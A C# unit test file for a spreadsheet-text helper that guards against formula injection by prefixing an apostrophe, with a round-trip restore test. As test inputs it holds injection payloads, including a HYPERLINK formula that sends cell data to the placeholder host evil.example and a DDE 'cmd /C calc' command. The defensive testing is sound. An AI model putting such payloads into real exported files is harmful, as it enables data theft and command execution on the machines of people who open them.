using Verksam.Web.Shared.Text;

namespace Verksam.UnitTests.Shared;

public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("-a", "'-a")]
    [InlineData("\tdold", "'\tdold")]
    [InlineData("\rdold", "'\rdold")]
    public void Neutralise_ATextThatStartsAFormula_GetsALeadingApostrophe(string text, string written) =>
        SpreadsheetText.Neutralise(text).ShouldBe(written);

    [Theory]
    [InlineData("-3,5")]
    [InlineData("-12")]
    [InlineData("+4.25")]
    [InlineData("-1 234,5")]
    [InlineData("Bemötande")]
    [InlineData("80 %")]
    [InlineData("")]
    public void Neutralise_NumbersAndOrdinaryText_AreWrittenAsTheyAre(string text) =>
        SpreadsheetText.Neutralise(text).ShouldBe(text);

    [Theory]
    [InlineData("=1+1")]
    [InlineData("@x")]
    [InlineData("-3,5")]
    [InlineData("'vanlig text")]
    [InlineData("'")]
    public void Restore_GivesBackWhatWasNeutralised(string text) =>
        SpreadsheetText.Restore(SpreadsheetText.Neutralise(text)).ShouldBe(text);
}
